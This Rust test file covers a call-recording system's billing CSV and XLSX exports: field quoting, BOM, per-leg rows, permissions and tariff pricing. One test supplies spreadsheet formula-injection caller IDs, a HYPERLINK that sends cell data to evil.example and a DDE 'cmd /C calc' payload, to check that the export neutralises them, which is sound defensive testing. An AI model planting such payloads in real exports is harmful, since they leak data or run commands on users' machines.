//! The billing CSV: RFC 4180 round trip with Chinese names, commas, quotes and
//! newlines in fields; BOM only when asked; per-leg rows; permissions; tariffs
//! (increments and minimums) through the CLI.

use std::collections::BTreeMap;
use std::path::Path;
use std::process::Output;

use crate::reports_util::{
    assert_xlsx_matches_csv, callvault, cdr, push, rebuild, simulated_day, start, xlsx_cells,
};
use crate::util::{token, TestServer};

/// Callers with awkward text, as the parser hands them on (trimmed, unescaped).
const AWKWARD: [&str; 4] = ["张三,\"x\"\n李四", "王五, Ltd.", "\"quoted\"", "赵六"];
/// As written into the XML.
const AWKWARD_XML: [&str; 4] = [
    "张三,\"x\"&#10;李四",
    "王五, Ltd.",
    "&quot;quoted&quot;",
    "赵六",
];

/// Documented columns (docs/billing.md).
const CALL_COLUMNS: &str = "call_id,device,date,start,end,direction,caller,callee,billed_number,trunk,route,answered_by,extensions,answered,forwarded_out,talk_seconds,billable_seconds,leg_count";
const LEG_COLUMNS: &str = "call_id,device,cdr_id,date,start,end,direction,leg_type,route,caller,callee,billed_number,trunk,answered_by,billable_seconds";

/// A tariff table: 0… at 0.30/min in minutes, 00… at 2.5/min in 6 s steps
/// with 30 s minimum, 138… at 0.12/min in 6 s steps.
const TARIFFS: &str = "prefix,rate_per_minute,increment_seconds,minimum_seconds\n0,0.30,60,60\n00,2.5,6,30\n138,0.12,6,0\n";

/// `callvault export billing --from 2024-01-08 FLAGS --tariffs FILE -o OUT`.
fn export_cli(data: &Path, flags: &[&str], tariffs: &Path, out: &Path) -> Output {
    let (t, o) = (
        tariffs.to_str().expect("utf-8"),
        out.to_str().expect("utf-8"),
    );
    let head = ["export", "billing", "--from", "2024-01-08"];
    callvault(
        data,
        &[&head[..], flags, &["--tariffs", t, "-o", o]].concat(),
    )
}

fn assert_ok(res: &Output) {
    assert!(
        res.status.success(),
        "{}",
        String::from_utf8_lossy(&res.stderr)
    );
}

/// Four outbound calls (one OU leg each) with awkward callers.
async fn awkward_calls(ts: &TestServer) {
    let legs = [
        (
            "1",
            "41",
            "13800001111",
            "20240108100000",
            "20240108100115",
            61,
        ),
        (
            "2",
            "42",
            "0044123456",
            "20240108110000",
            "20240108110010",
            1,
        ),
        ("3", "43", "010888", "20240108120000", "20240108120020", 0),
        ("4", "44", "99999", "20240108130000", "20240108130100", 45),
    ];
    for (i, (id, outer, cdpn, s, e, d)) in legs.iter().enumerate() {
        push(
            ts,
            &cdr(
                &format!("{id}{e}-0"),
                "OU",
                outer,
                AWKWARD_XML[i],
                cdpn,
                s,
                e,
                *d,
            ),
        )
        .await;
    }
    rebuild(ts).await;
}

async fn get_raw(ts: &TestServer, path: &str, tok: &str) -> reqwest::Response {
    reqwest::Client::new()
        .get(format!("http://{}{path}", ts.api()))
        .bearer_auth(tok)
        .send()
        .await
        .expect("request")
}

fn parse(body: &[u8]) -> (String, Vec<BTreeMap<String, String>>) {
    let mut rd = csv::Reader::from_reader(body);
    let header = rd
        .headers()
        .expect("header")
        .iter()
        .collect::<Vec<_>>()
        .join(",");
    let cols: Vec<String> = rd
        .headers()
        .expect("header")
        .iter()
        .map(str::to_string)
        .collect();
    let rows = rd
        .records()
        .map(|r| {
            cols.iter()
                .cloned()
                .zip(r.expect("record").iter().map(str::to_string))
                .collect()
        })
        .collect();
    (header, rows)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn billing_csv_round_trips_awkward_fields_without_bom() {
    let ts = start().await;
    awkward_calls(&ts).await;
    let tok = token(&ts, "finance").await;
    let resp = get_raw(
        &ts,
        "/export/billing.csv?from=2024-01-08&to=2024-01-08",
        &tok,
    )
    .await;
    assert_eq!(resp.status(), 200);
    let h = resp.headers().clone();
    assert_eq!(h["content-type"], "text/csv; charset=utf-8");
    let cd = h["content-disposition"].to_str().expect("ascii");
    assert!(
        cd.starts_with("attachment;") && cd.contains("billing_20240108_20240108.csv"),
        "{cd}"
    );
    let body = resp.bytes().await.expect("body");
    assert!(!body.starts_with(b"\xEF\xBB\xBF"), "no BOM unless asked");
    let (header, rows) = parse(&body);
    assert_eq!(header, CALL_COLUMNS);
    let callers: Vec<&str> = rows.iter().map(|r| r["caller"].as_str()).collect();
    assert_eq!(callers, AWKWARD);
    assert_eq!(rows[0]["billed_number"], "13800001111");
    assert_eq!(rows[0]["billable_seconds"], "61");
    assert_eq!(rows[0]["direction"], "outbound");
}

/// A caller id is outside text (a SIP caller can send any): one that a
/// spreadsheet would run as a formula arrives inert in both billing files;
/// numbers, leading + or 0 included, arrive as sent.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn billing_csv_neutralises_formula_callers_and_keeps_numbers() {
    let ts = start().await;
    // (caller as the device sends it in XML, as the CSV must carry it)
    let callers = [
        (
            "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;call back&quot;)",
            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"call back\")",
        ),
        (
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "'@SUM(1+1)*cmd|' /C calc'!A0",
        ),
        ("-2+3", "'-2+3"),
        ("+8613800138000", "+8613800138000"),
        ("02161208234", "02161208234"),
    ];
    for (i, (xml, _)) in callers.iter().enumerate() {
        let (s, e) = (format!("202401081{i}0000"), format!("202401081{i}0100"));
        push(
            &ts,
            &cdr(
                &format!("{i}{e}-0"),
                "OU",
                &format!("5{i}"),
                xml,
                "13800001111",
                &s,
                &e,
                30,
            ),
        )
        .await;
    }
    rebuild(&ts).await;
    let tok = token(&ts, "finance").await;
    for path in [
        "/export/billing.csv?from=2024-01-08",
        "/export/billing.csv?from=2024-01-08&per_leg=1",
    ] {
        let resp = get_raw(&ts, path, &tok).await;
        assert_eq!(resp.status(), 200, "{path}");
        let (_, rows) = parse(&resp.bytes().await.expect("body"));
        let got: Vec<&str> = rows.iter().map(|r| r["caller"].as_str()).collect();
        let want: Vec<&str> = callers.iter().map(|c| c.1).collect();
        assert_eq!(got, want, "{path}");
    }
    // The JSON API is no spreadsheet: it carries the caller as sent.
    let calls = crate::util::get_json(ts.api(), "/api/calls?from=2024-01-08", &tok).await;
    assert!(
        calls
            .to_string()
            .contains("=HYPERLINK(\\\"http://evil.example/"),
        "{calls}"
    );
}

/// The workbook has the CSV's rows and columns, typed: numbers sent by the
/// device stay text (leading 0 and + kept), seconds and costs are numbers,
/// dates and times are dates, and no cell is a formula (the caller that
/// is one arrives as its text).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn billing_xlsx_is_the_csv_typed_for_excel() {
    use calamine::{Data, DataType};
    let ts = start().await;
    awkward_calls(&ts).await;
    let formula = "=HYPERLINK(\"http://evil.example/\",\"x\")";
    push(
        &ts,
        &cdr(
            "920240108140100-0",
            "OU",
            "45",
            "=HYPERLINK(&quot;http://evil.example/&quot;,&quot;x&quot;)",
            "+8613800138000",
            "20240108140000",
            "20240108140100",
            59,
        ),
    )
    .await;
    rebuild(&ts).await;
    std::fs::write(ts.dir.path().join("tariffs.csv"), TARIFFS).expect("write tariffs");
    let tok = token(&ts, "finance").await;
    let query = "?from=2024-01-08&tariffs=1";
    let csv = get_raw(&ts, &format!("/export/billing.csv{query}"), &tok).await;
    let csv_bytes = csv.bytes().await.expect("csv");
    let resp = get_raw(&ts, &format!("/export/billing.xlsx{query}"), &tok).await;
    assert_eq!(resp.status(), 200);
    assert_eq!(
        resp.headers()["content-type"],
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    );
    let cd = resp.headers()["content-disposition"]
        .to_str()
        .expect("ascii")
        .to_string();
    assert!(cd.contains("billing_20240108_20240108.xlsx"), "{cd}");
    let bytes = resp.bytes().await.expect("xlsx");
    let (cells, formulas) = xlsx_cells(&bytes);
    assert!(!formulas, "no cell is a formula");

    let names = assert_xlsx_matches_csv(&cells, &csv_bytes);
    assert_eq!(cells.len(), 6, "header and 5 calls");
    let col = |name: &str| names.iter().position(|n| n == name).expect(name);
    let by_caller = |caller: &str| {
        cells[1..]
            .iter()
            .find(|r| r[col("caller")] == Data::String(caller.into()))
            .unwrap_or_else(|| panic!("a row for {caller}"))
    };
    let r = by_caller("王五, Ltd.");
    assert_eq!(r[col("billed_number")], Data::String("0044123456".into()));
    assert_eq!(r[col("trunk")], Data::String("02161205555".into()));
    assert_eq!(r[col("billable_seconds")], Data::Float(1.0));
    assert_eq!(r[col("cost")], Data::Float(1.25));
    assert!(r[col("start")].is_datetime() && r[col("date")].is_datetime());
    let r = by_caller(formula);
    assert_eq!(
        r[col("billed_number")],
        Data::String("+8613800138000".into())
    );
    assert_eq!(
        by_caller("张三,\"x\"\n李四")[col("answered")],
        Data::Float(1.0)
    );

    // The command line writes the same workbook (chosen by the .xlsx name).
    let out = ts.dir.path().join("jan.xlsx");
    let tariffs = ts.dir.path().join("tariffs.csv");
    let res = export_cli(ts.dir.path(), &[], &tariffs, &out);
    assert_ok(&res);
    assert_eq!(xlsx_cells(&std::fs::read(&out).expect("file")).0, cells);
    // A BOM means nothing to a workbook: refused rather than ignored.
    let res = export_cli(
        ts.dir.path(),
        &["--format", "xlsx", "--bom"],
        &tariffs,
        &out,
    );
    assert!(!res.status.success());
    assert!(String::from_utf8_lossy(&res.stderr).contains("--bom is for CSV"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn billing_csv_has_bom_only_when_asked_and_per_leg_rows() {
    let ts = start().await;
    awkward_calls(&ts).await;
    let tok = token(&ts, "finance").await;
    let body = get_raw(
        &ts,
        "/export/billing.csv?from=2024-01-08&to=2024-01-08&bom=1",
        &tok,
    )
    .await
    .bytes()
    .await
    .expect("body");
    let rest = body.strip_prefix(b"\xEF\xBB\xBF").expect("BOM first");
    let (_, rows) = parse(rest);
    assert_eq!(rows.len(), 4);
    assert_eq!(rows[0]["caller"], AWKWARD[0]);

    let body = get_raw(
        &ts,
        "/export/billing.csv?from=2024-01-08&to=2024-01-08&per_leg=1",
        &tok,
    )
    .await
    .bytes()
    .await
    .expect("body");
    let (header, rows) = parse(&body);
    assert_eq!(header, LEG_COLUMNS);
    assert_eq!(rows.len(), 4);
    assert!(rows.iter().all(|r| r["leg_type"] == "OU"));
    assert_eq!(
        rows.iter()
            .map(|r| r["caller"].as_str())
            .collect::<Vec<_>>(),
        AWKWARD
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn billing_csv_checks_role_and_dates() {
    let ts = start().await;
    let qa = token(&ts, "qa").await;
    let fin = token(&ts, "finance").await;
    assert_eq!(
        get_raw(&ts, "/export/billing.csv?from=2024-01-08", &qa)
            .await
            .status(),
        403
    );
    assert_eq!(
        get_raw(&ts, "/export/billing.csv?from=2024-01-08", "nope")
            .await
            .status(),
        401
    );
    assert_eq!(
        get_raw(&ts, "/export/billing.csv?from=2024-01-32", &fin)
            .await
            .status(),
        400
    );
    assert_eq!(
        get_raw(
            &ts,
            "/export/billing.csv?from=2024-01-09&to=2024-01-08",
            &fin
        )
        .await
        .status(),
        400
    );
    let resp = get_raw(&ts, "/export/billing.csv?from=2024-01-08", &fin).await;
    assert_eq!(resp.status(), 200);
    assert_eq!(
        resp.text().await.expect("body").trim_end(),
        CALL_COLUMNS,
        "header even without rows"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn billing_rows_equal_settled_calls_of_the_day() {
    let ts = start().await;
    let plan = simulated_day(&ts, 21, 120).await;
    let tok = token(&ts, "admin").await;
    let body = get_raw(
        &ts,
        "/export/billing.csv?from=2024-01-08&to=2024-01-08",
        &tok,
    )
    .await
    .bytes()
    .await
    .expect("body");
    let (_, rows) = parse(&body);
    let day = crate::reports_util::day();
    let today: Vec<_> = plan
        .truth
        .calls
        .iter()
        .filter(|c| c.start.date() == day)
        .collect();
    assert_eq!(rows.len(), today.len());
    let billable: i64 = rows
        .iter()
        .map(|r| r["billable_seconds"].parse::<i64>().expect("int"))
        .sum();
    assert_eq!(
        billable,
        today.iter().map(|c| c.billable_seconds).sum::<i64>()
    );

    let body = get_raw(
        &ts,
        "/export/billing.csv?from=2024-01-08&to=2024-01-08&per_leg=1",
        &tok,
    )
    .await
    .bytes()
    .await
    .expect("body");
    let (_, legs) = parse(&body);
    let leg_secs: i64 = legs
        .iter()
        .map(|r| r["billable_seconds"].parse::<i64>().expect("int"))
        .sum();
    assert_eq!(
        leg_secs, billable,
        "per-leg rows add up to the per-call billable seconds"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn billing_cli_tariffs_apply_increments_and_minimums() {
    let ts = start().await;
    awkward_calls(&ts).await;
    let tariffs = ts.dir.path().join("tariffs.csv");
    std::fs::write(&tariffs, TARIFFS).expect("write tariffs");
    let out = ts.dir.path().join("billing.csv");
    let res = export_cli(ts.dir.path(), &["--bom"], &tariffs, &out);
    assert_ok(&res);
    let bytes = std::fs::read(&out).expect("output file");
    let (header, rows) = parse(bytes.strip_prefix(b"\xEF\xBB\xBF").expect("BOM"));
    assert_eq!(header, format!("{CALL_COLUMNS},billed_seconds,cost"));
    let priced: Vec<(&str, &str, &str)> = rows
        .iter()
        .map(|r| {
            (
                r["billed_number"].as_str(),
                r["billed_seconds"].as_str(),
                r["cost"].as_str(),
            )
        })
        .collect();
    assert_eq!(
        priced,
        vec![
            ("13800001111", "66", "0.1320"), // 61 s → 66 s (6 s steps) at 0.12/min
            ("0044123456", "30", "1.2500"),  // 1 s → 30 s minimum at 2.5/min
            ("010888", "0", "0.0000"),       // not answered: nothing billed
            ("99999", "", ""),               // no tariff matches
        ]
    );

    // A bad tariff file fails loudly and leaves no output behind.
    std::fs::write(
        &tariffs,
        "prefix,rate_per_minute,increment_seconds,minimum_seconds\n0,cheap,60,60\n",
    )
    .expect("write");
    let out2 = ts.dir.path().join("billing2.csv");
    let res = export_cli(ts.dir.path(), &[], &tariffs, &out2);
    assert!(!res.status.success());
    assert!(String::from_utf8_lossy(&res.stderr).contains("tariffs line 2"));
    assert!(!out2.exists());
}
